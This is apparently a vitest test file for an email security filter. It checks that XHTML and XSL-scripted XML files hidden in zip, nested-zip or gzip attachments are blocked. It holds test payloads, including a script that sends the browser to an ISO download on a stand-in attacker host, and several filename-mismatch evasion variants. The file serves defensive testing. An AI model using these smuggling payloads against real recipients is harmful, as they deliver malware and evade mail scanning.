import { gzipSync } from 'node:zlib';
import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 67, A67-1: an `.xml` file that is an XHTML page (or turns into one through an
// `<?xml-stylesheet?>`) runs its scripts when a browser opens it, and on Windows a double click on an `.xml` file
// opens it in the browser. Attached, such a file was refused (round 44); inside a zip, which Outlook opens in
// Explorer, only `.html`, `.svg` and the like were read by the page scan: a zipped `invoice.xml` smuggling a file
// (or a gzipped `invoice.xml.gz`) was delivered. XML files inside an archive are now read as attached ones are, except the parts of a document
// Office opens as a package (an OpenDocument's `content.xml` names the XHTML and MathML namespaces).
const stack = useLocalStack();
const kit = attackerKit(stack);

const XHTML =
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
  '<script>location = "https://evil.example/invoice.iso"</script></body></html>';
const STYLESHEET =
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><doc>' +
  '<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
  '<xsl:template match="/"><html><script>alert(1)</script></html></xsl:template></xsl:stylesheet></doc>';

/** A message with one attachment, a zip named `name` (and `filename`, when given) holding `files`. */
function zipped(
  files: Parameters<typeof zipFile>[0],
  name = 'invoice.zip',
  filename = name,
): [Buffer, string] {
  const body = zipFile(files).toString('base64');
  const part = `Content-Type: application/zip; name="${name}"\r\nContent-Disposition: attachment; filename="${filename}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${body.replace(/.{76}/g, '$&\r\n')}`;
  return [mail([MIXED], withPart(part)), body.slice(0, 40)];
}

describe('A67-1: an XML page inside an archive', () => {
  attachmentTests(kit, {
    'invoice.xml (an XHTML page) in a zip': zipped([{ name: 'invoice.xml', data: XHTML }]),
    'invoice.xsl in a zip': zipped([{ name: 'docs/invoice.xsl', data: XHTML }]),
    'invoice.xml turned into a page by its stylesheet': zipped([{ name: 'invoice.xml', data: STYLESHEET }]),
    'invoice.xml in a zip in a zip': zipped([
      { name: 'inner.zip', data: zipFile([{ name: 'invoice.xml', data: XHTML }]) },
    ]),
    'invoice.xml.gz': attachedFile('invoice.xml.gz', gzipSync(XHTML), 'application/gzip'),
    'a zip named .docx in one header and .zip in the other': zipped(
      [{ name: 'invoice.xml', data: XHTML }],
      'invoice.docx',
      'invoice.zip',
    ),
  });

  it('(control) delivers a zip of XML data files', async () => {
    const ubl =
      '<?xml version="1.0"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">' +
      '<ID>A-1</ID><Note>form 12, object 3</Note></Invoice>';
    const plainXhtml = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><p>Hello</p></html>';
    const [message] = zipped([
      { name: 'invoice.xml', data: ubl },
      { name: 'readme.xml', data: plainXhtml },
    ]);
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('(control) delivers an OpenDocument text whose content.xml names the XHTML and MathML namespaces', async () => {
    const content =
      '<?xml version="1.0" encoding="UTF-8"?><office:document-content ' +
      'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
      'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" ' +
      'xmlns:xhtml="http://www.w3.org/1999/xhtml" xmlns:math="http://www.w3.org/1998/Math/MathML">' +
      '<office:body><office:forms><form:form form:name="Form"/></office:forms><office:text/></office:body>' +
      '</office:document-content>';
    const odt = zipFile([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 },
      { name: 'content.xml', data: content },
    ]);
    const [message] = attachedFile('report.odt', odt, 'application/vnd.oasis.opendocument.text');
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });
});
